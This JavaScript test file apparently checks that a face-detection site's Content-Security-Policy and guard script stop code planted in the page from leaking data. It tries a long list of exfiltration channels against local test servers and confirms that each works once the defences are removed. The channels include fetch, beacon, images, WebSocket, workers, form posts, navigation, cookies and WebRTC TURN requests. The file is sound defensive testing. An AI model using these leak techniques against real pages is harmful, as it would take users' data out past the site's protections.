/**
 * Leaks, planted: code inside the page tries every way out, to another server and to the
 * site's own one. Nothing may arrive. Each way is also tried in a copy of the site without
 * its defences, where it has to arrive: a way that fails by itself would prove nothing.
 */

import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { test } from 'node:test';
import { serve } from '../tools/serve.mjs';
import { guarded, inBoth, open, PATIENCE } from './lib/page.mjs';
import { inProject, site } from './lib/project.mjs';

/**
 * What code in the page tries; it resolves when the attempt is over, either way.
 * @type {Record<string, (to: {other: string, own: string, tcp: number}) => unknown>}
 */
const WAYS = {
  fetch: ({ other }) => fetch(`${other}?leak-fetch`, { mode: 'no-cors' }),
  beacon: ({ other }) => navigator.sendBeacon(`${other}?leak-beacon`, 'face'),
  image: ({ other }) => new Promise((done) => {
    const image = new Image();
    image.onload = image.onerror = done;
    image.src = `${other}?leak-image`;
  }),
  websocket: ({ other }) => new Promise((done) => {
    const socket = new WebSocket(`${other.replace('http', 'ws')}?leak-websocket`);
    socket.onerror = socket.onclose = done;
  }),
  eventsource: ({ other }) => new Promise((done) => {
    const source = new EventSource(`${other}?leak-eventsource`);
    source.onerror = () => done(source.close());
  }),
  xhr: ({ other }) => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.onloadend = done;
    request.open('GET', `${other}?leak-xhr`);
    request.send();
  }),
  import: ({ other }) => import(`${other}?leak-import`),
  prefetch: ({ other }) => new Promise((done) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = `${other}?leak-prefetch`;
    link.onload = link.onerror = done;
    document.head.append(link);
  }),
  worker: ({ other, own }) => new Promise((done) => {
    const source = `const go = (to) => fetch(to, { mode: 'no-cors' }).catch(() => {});
      Promise.all([go('${other}?leak-worker'), go('${own}?leak-worker-own')]).then(() => postMessage(0))`;
    const address = URL.createObjectURL(new Blob([source]));
    const policy = /** @type {any} */ (window).trustedTypes?.createPolicy('humshakal',
      { createScriptURL: (/** @type {string} */ url) => url });
    new Worker(policy?.createScriptURL(address) ?? address).onmessage = done;
  }),
  'own-query': ({ own }) => fetch(`${own}icon.svg?leak-own-query`),
  'own-path': ({ own }) => fetch(`${own}leak-own-path`),
  'own-post': ({ own }) => fetch(`${own}icon.svg`, { method: 'POST', body: 'leak-own-post' }),
  'own-beacon': ({ own }) => navigator.sendBeacon(`${own}icon.svg`, 'leak-own-beacon'),
  'own-header': ({ own }) => fetch(`${own}models/blazeface-short.recipe`,
    { cache: 'reload', headers: { 'x-face': 'leak-own-header' } }),
  'own-cookie': ({ own }) => {
    document.cookie = 'face=leak-own-cookie';
    return fetch(`${own}models/blazeface-short.recipe`, { cache: 'reload' });
  },
};

/** Ways that take the page away; each has a page of its own. @type {typeof WAYS} */
const DEPARTURES = {
  navigation: ({ other }) => { location.href = `${other}?leak-navigation`; },
  'own-navigation': ({ own }) => { location.assign(`${own}?leak-own-navigation`); },
  anchor: ({ other }) => {
    const anchor = document.createElement('a');
    anchor.href = `${other}?leak-anchor`;
    anchor.click();
  },
  form: ({ other }) => {
    const form = document.createElement('form');
    form.action = `${other}leak-form`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  },
  refresh: ({ other }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${other}?leak-refresh`;
    document.head.append(meta);
  },
};

/** Chromium only: Firefox has no WebRTC on 127.0.0.1. @type {typeof WAYS} */
const DIRECT = {
  webrtc: async ({ tcp }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ username: 'leak-webrtc',
      urls: `turn:127.0.0.1:${tcp}?transport=tcp`, credential: 'x' }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription();
  },
  'webrtc-frame': async ({ tcp }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const connection = new /** @type {any} */ (frame.contentWindow).RTCPeerConnection({
      iceServers: [{ username: 'leak-webrtc-frame', urls: `turn:127.0.0.1:${tcp}?transport=tcp`,
        credential: 'x' }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription();
  },
};

/** Notes the marks that arrive at a server, in whatever part of what it is sent. */
function witness() {
  /** @type {Set<string>} */
  const arrived = new Set();
  /** @type {Map<string, () => void>} */
  const waiting = new Map();
  const read = (/** @type {string} */ text) => {
    for (const [, name] of text.matchAll(/leak-([\w-]+)/g)) {
      arrived.add(name);
      waiting.get(name)?.();
    }
  };
  return {
    arrived,
    read,
    /** @param {string} name @returns {Promise<void>} */
    until: (name) => new Promise((done, failed) => {
      if (arrived.has(name)) done();
      else waiting.set(name, done);
      setTimeout(() => failed(new Error(`${name} has not arrived.`)), PATIENCE).unref();
    }),
    /** @type {NonNullable<import('../tools/serve.mjs').ServeOptions['intercept']>} */
    intercept(request) {
      read(`${request.url} ${JSON.stringify(request.headers)}`);
      request.on('data', (chunk) => read(String(chunk)));
      return false;
    },
  };
}

const html = await readFile(new URL('index.html', site), 'utf8');
const bare = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
  .replace(/<script src="guard.js" defer><\/script>/, '');

/**
 * The servers that listen, and pages of the site, with its defences or without.
 * @param {import('node:test').TestContext} t
 * @param {boolean} defended
 */
async function stage(t, defended) {
  const seen = witness();
  const other = await serve(inProject('build/photos/samples'), { intercept: seen.intercept });
  const listener = createServer((socket) => {
    // A TURN client asks without its name first; its mere coming is the leak.
    socket.on('data', () => seen.read('leak-webrtc leak-webrtc-frame'));
    socket.on('error', () => {}).unref();
  });
  await new Promise((done) => { listener.listen(0, '127.0.0.1', () => done(null)); });
  t.after(() => other.close());
  t.after(() => { listener.close(); });
  const { page, server, context } = await open({
    context: { serviceWorkers: 'allow' },
    server: { intercept(request, response) {
      seen.intercept(request, response);
      if (defended || !['/', '/sw.js'].includes(request.url ?? '')) return false;
      response.writeHead(request.url === '/' ? 200 : 404, { 'Content-Type': 'text/html' });
      response.end(request.url === '/' ? bare : '');
      return true;
    } },
  });
  const address = /** @type {import('node:net').AddressInfo} */ (listener.address());
  const to = { other: other.url, own: server.url, tcp: address.port };
  // What was sent before this answer came has come as well.
  const settle = async () => {
    const name = `settled-${Math.random()}`.replace('.', '');
    await fetch(`${other.url}?leak-${name}`);
    await seen.until(name);
    seen.arrived.delete(name);
  };
  return { seen, page, server, context, to, settle, ready: () => (
    defended ? guarded(page) : page.waitForSelector('.samples img[src]')) };
}

/** @param {any} page @param {(to: any) => unknown} way @param {object} to */
const attempt = (page, way, to) => page.evaluate(way, to)
  .then((/** @type {unknown} */ result) => result !== false, () => false);

inBoth('with the defences nothing arrives anywhere', async (t) => {
  const { seen, page, server, to, ready, settle } = await stage(t, true);
  await ready();
  for (const way of Object.values(WAYS)) await attempt(page, way, to);
  for (const way of [...Object.values(DEPARTURES), ...Object.values(DIRECT)]) {
    await attempt(page, way, to);
    // Not by waiting for a selector: that waits for a stopped navigation to end.
    assert.equal(await page.evaluate(() => location.href), server.url);
  }
  await settle();
  assert.deepEqual([...seen.arrived], []);
});

inBoth('without them everything arrives', async (t) => {
  const { seen, page, server, context, to, ready } = await stage(t, false);
  await ready();
  for (const [name, way] of Object.entries(WAYS)) {
    await Promise.all([seen.until(name), attempt(page, way, to)]);
  }
  await seen.until('worker-own');
  for (const [name, way] of Object.entries(DEPARTURES)) {
    const leaving = await context.newPage();
    await leaving.goto(server.url);
    await Promise.all([seen.until(name), attempt(leaving, way, to)]);
    // Chromium may never close a page that is on its way to another site.
    await leaving.waitForURL((url) => url.href !== server.url);
  }
});

test('WebRTC reaches a server without the defences', async (t) => {
  const { seen, page, to, ready } = await stage(t, false);
  await ready();
  for (const [name, way] of Object.entries(DIRECT)) {
    await Promise.all([seen.until(name), attempt(page, way, to)]);
    seen.arrived.clear();
  }
});
